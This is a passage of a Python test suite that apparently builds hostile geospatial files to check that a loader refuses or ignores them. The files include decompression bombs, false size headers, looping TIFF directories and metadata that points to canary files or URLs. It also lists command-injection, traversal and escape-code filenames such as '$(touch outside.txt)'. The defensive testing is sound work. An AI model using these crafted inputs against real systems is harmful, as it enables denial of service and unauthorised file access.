    write.__name__ = f"flatgeobuf_{name}"
    refused(write)


_flatgeobuf("with_a_header_of_two_gigabytes", 8, "<I", 0x7FFFFFFF)
_flatgeobuf("that_begins_nowhere", 12, "<I", 0x7FFFFFF0)


def _parquet(
    name: str, verdict: Callable[[Write], Write], change: Callable[[Bait, dict], None]
) -> None:
    def write(bait: Bait) -> Path:
        import pyarrow.parquet as pq

        path = bait.folder / "a.parquet"
        streets().to_parquet(path)
        table = pq.read_table(path)
        stated = json.loads(table.schema.metadata[b"geo"])
        change(bait, stated)
        pq.write_table(table.replace_schema_metadata({b"geo": json.dumps(stated)}), path)
        return path

    write.__name__ = f"parquet_{name}"
    verdict(write)


_parquet("system_of_a_file", inert, lambda bait, geo: geo["columns"]["geometry"].update(crs={"$schema": bait.canary.as_uri(), "type": "GeographicCRS"}))  # fmt: skip
_parquet("geometry_of_another_encoding", refused, lambda bait, geo: geo["columns"]["geometry"].update(encoding=str(bait.canary)))  # fmt: skip
_parquet(
    "geometry_that_is_no_column", inert, lambda bait, geo: geo.update(primary_column="../geometry")
)


@refused
def parquet_that_swells(bait: Bait) -> Path:
    import pyarrow as pa
    import pyarrow.parquet as pq

    # Packed, each of ten million rows is a byte that says "the same again".
    rows = pa.DictionaryArray.from_arrays(
        pa.repeat(pa.scalar(0, pa.int8()), 10_000_000), ["x" * 1000]
    )
    path = bait.folder / "a.parquet"
    pq.write_table(pa.table({"id": rows}), path, store_schema=False)
    return path


@refused
def parquet_with_a_lying_end(bait: Bait) -> Path:
    path = bait.folder / "a.parquet"
    streets().to_parquet(path)
    content = bytearray(path.read_bytes())
    struct.pack_into("<I", content, len(content) - 8, 0x7FFFFFFF)
    return bait.write("a.parquet", bytes(content))


def _osm_blob(kind: bytes, blob: bytes, size: int | None = None) -> bytes:
    def field(number: int, value: bytes) -> bytes:
        return bytes([number << 3 | 2, len(value)]) + value

    def varint(value: int) -> bytes:
        out = b""
        while value > 0x7F:
            out += bytes([value & 0x7F | 0x80])
            value >>= 7
        return out + bytes([value])

    header = field(1, kind) + b"\x18" + varint(len(blob) if size is None else size)
    return struct.pack(">I", len(header)) + header + blob


@refused
def osm_header_of_two_gigabytes(bait: Bait) -> Path:
    return bait.write("a.osm.pbf", _osm_blob(b"OSMHeader", b"", 0x7FFFFFFF) + bytes(1000))


@refused
def osm_blob_that_swells(bait: Bait) -> Path:
    packed = zlib.compress(bytes(64 << 20), 9)

    def varint(value: int) -> bytes:
        out = b""
        while value > 0x7F:
            out += bytes([value & 0x7F | 0x80])
            value >>= 7
        return out + bytes([value])

    blob = b"\x10" + varint(64 << 20) + b"\x1a" + varint(len(packed)) + packed
    return bait.write("a.osm.pbf", _osm_blob(b"OSMHeader", blob) + _osm_blob(b"OSMData", blob))


def _tiff(width: int, height: int, bands: int, more: bytes = b"", count: int = 0) -> bytes:
    def entry(tag: int, kind: int, value: int) -> bytes:
        return struct.pack("<HHII", tag, kind, 1, value)

    entries = [
        entry(256, 4, width), entry(257, 4, height), entry(258, 3, 8), entry(259, 3, 1), entry(262, 3, 1),
        entry(273, 4, 400), entry(277, 3, bands), entry(278, 4, height), entry(279, 4, 1),
    ]  # fmt: skip
    return (
        struct.pack("<2sHIH", b"II", 42, 8, len(entries) + count)
        + b"".join(entries)
        + more
        + bytes(4)
    )


@refused
def raster_sparse_and_huge(bait: Bait) -> Path:
    return bait.write("a.tif", _tiff(300_000, 300_000, 1))


@refused
def raster_of_32769_bands(bait: Bait) -> Path:
    return bait.write("a.tif", _tiff(3, 2, 32_769) + bytes(400))


@refused
def raster_whose_directory_circles(bait: Bait) -> Path:
    content = bytearray(_tiff(3, 2, 1) + bytes(400))
    struct.pack_into("<I", content, 10 + 9 * 12, 8)
    return bait.write("a.tif", bytes(content))


@refused
def raster_of_sixty_thousand_tags(bait: Bait) -> Path:
    return bait.write("a.tif", struct.pack("<2sHIH", b"II", 42, 8, 60_000) + b"\x01" * 800_000)


@inert
def raster_with_links_in_its_metadata(bait: Bait) -> Path:
    import numpy as np
    import rasterio
    from rasterio.transform import from_origin

    path = bait.folder / "a.tif"
    with rasterio.open(
        path, "w", driver="GTiff", width=4, height=4, count=1, dtype="uint8", crs="EPSG:4326",
        transform=from_origin(120, 33, 0.1, 0.1),
    ) as raster:  # fmt: skip
        raster.write(np.ones((1, 4, 4), dtype="uint8"))
        raster.update_tags(ns="xml:VRT", VRT=_raster_vrt(bait))
        raster.update_tags(href=bait.url, OVERVIEW_FILE=str(bait.canary))
        raster.update_tags(ns="OVERVIEWS", OVERVIEW_FILE=str(bait.canary))
        raster.update_tags(ns="SUBDATASETS", SUBDATASET_1_NAME=f"VRT://{bait.canary}")
    bait.write("a.tif.ovr", _raster_vrt(bait))
    bait.write("a.tif.aux.xml", f"<PAMDataset><Metadata domain='OVERVIEWS'><MDI key='OVERVIEW_FILE'>{bait.canary}</MDI></Metadata></PAMDataset>")  # fmt: skip
    bait.write("a.tif.msk", _raster_vrt(bait))
    return path


# -- names ------------------------------------------------------------------------------------------------------

NAMES = (
    "CSV:a.geojson", "http:__127.0.0.1_a.geojson", "a.zip!b.geojson", "a.gpkg|layername=x.geojson",
    "%2e%2e%2fa.geojson", "$(touch outside.txt).geojson", "`touch outside.txt`.geojson", "-h.geojson",
    "--config.geojson", "a;b&c|d.geojson", "a\nb.geojson", "a\x1b[31m.geojson", "'\"<b>{{7*191}}.geojson",
    "/vsicurl?url=x".replace("/", "_") + ".geojson", "..geojson", "NUL.geojson", "a\\b.geojson",
    "名\u202enosjoeg.geojson", "\ufeffa.geojson", "a.GEOJSON",
)  # fmt: skip
"""Names that mean something to some program; the file inside is good."""
